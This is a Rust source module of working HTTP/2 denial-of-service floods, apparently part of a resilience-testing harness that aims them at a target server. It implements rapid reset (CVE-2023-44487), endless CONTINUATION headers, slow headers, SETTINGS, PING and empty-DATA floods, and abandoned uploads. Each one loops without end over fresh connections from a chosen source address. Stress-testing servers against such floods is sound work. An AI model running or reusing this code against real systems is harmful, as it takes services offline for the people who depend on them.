//! Floods over HTTP/2: streams opened and reset, heads that never end, frames that only want an answer.

use super::{
    connections,
    field::{Attack, Field, hold},
};
use crate::{
    promises::h2::{self, CONTINUATION, DATA, H2, HEADERS, PING, RST_STREAM, SETTINGS},
    support::raw,
};
use std::net::Ipv4Addr;

/// In the order they are tried.
pub(super) const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset", rapid_reset),
    ("rapid reset by an account", rapid_reset_by_an_account),
    ("slow heads over HTTP/2", slow_heads),
    ("endless CONTINUATION", endless_head),
    ("SETTINGS", settings),
    ("PING", pings),
    ("empty DATA", empty_data),
    ("uploads over HTTP/2 broken off", uploads_broken_off),
];

/// CVE-2023-44487.
fn rapid_reset(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    reset_streams(field, source, goes_on, &[]);
}

fn rapid_reset_by_an_account(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    reset_streams(field, source, goes_on, &[("cookie", field.cookie.trim_start_matches("cookie: "))]);
}

fn reset_streams(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool, more: &[(&str, &str)]) {
    let authority = field.door.authority();
    let fields = h2::fields("GET", &authority, "/reset", more);
    endlessly(field, source, goes_on, |h2| {
        let stream = h2.begin(&fields, true);
        h2.frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
    });
}

fn slow_heads(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    let open = || {
        let mut h2 = open(field, source)?;
        h2.frame(HEADERS, 0, 1, &h2::block(&[(":method", "GET")])).then_some(h2)
    };
    hold(connections(), goes_on, open, |h2| h2.frame(CONTINUATION, 0, 1, &h2::block(&[("x", "y")])));
}

/// CVE-2024-27316 and its relatives.
fn endless_head(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    let value = "v".repeat(15_000);
    let part = h2::block(&[("x-more", &value)]);
    endlessly(field, source, goes_on, |h2| {
        let mut goes = h2.frame(HEADERS, 0, 1, &h2::block(&[(":method", "GET")]));
        while goes && goes_on() {
            goes = h2.frame(CONTINUATION, 0, 1, &part);
        }
        false
    });
}

/// CVE-2019-9515.
fn settings(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    endlessly(field, source, goes_on, |h2| h2.frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
}

/// CVE-2019-9512.
fn pings(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    endlessly(field, source, goes_on, |h2| h2.frame(PING, 0, 0, &[0; 8]));
}

/// CVE-2019-9518, RUSTSEC-2026-0258.
fn empty_data(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    let authority = field.door.authority();
    let fields = h2::fields("POST", &authority, "/", &[]);
    endlessly(field, source, goes_on, |h2| {
        let stream = h2.begin(&fields, false);
        while goes_on() && h2.frame(DATA, 0, stream, &[]) {}
        false
    });
}

fn uploads_broken_off(field: &Field, source: Ipv4Addr, goes_on: &dyn Fn() -> bool) {
    let (authority, origin) = (field.door.authority(), field.door.origin());
    let own = [("cookie", field.cookie.trim_start_matches("cookie: ")), ("origin", origin.as_str())];
    let fields = h2::fields("POST", &authority, "/big", &own);
    endlessly(field, source, goes_on, |h2| {
        let stream = h2.begin(&fields, false);
        (0..3).all(|_| h2.data(stream, &[b'x'; 16_000]));
        // One in two is reset, the other is left where it is.
        stream % 4 == 1 || h2.frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
    });
}

/// Does something on a connection whose answers nobody reads, until it ends; then on the next.
fn endlessly(
    field: &Field,
    source: Ipv4Addr,
    goes_on: &dyn Fn() -> bool,
    mut act: impl FnMut(&mut H2) -> bool,
) {
    while goes_on() {
        let Some(mut h2) = open(field, source) else { continue };
        while goes_on() && act(&mut h2) {}
    }
}

fn open(field: &Field, source: Ipv4Addr) -> Option<H2> {
    H2::over(raw::connect_from(source, field.door.address, &["h2"]).ok()?)
}
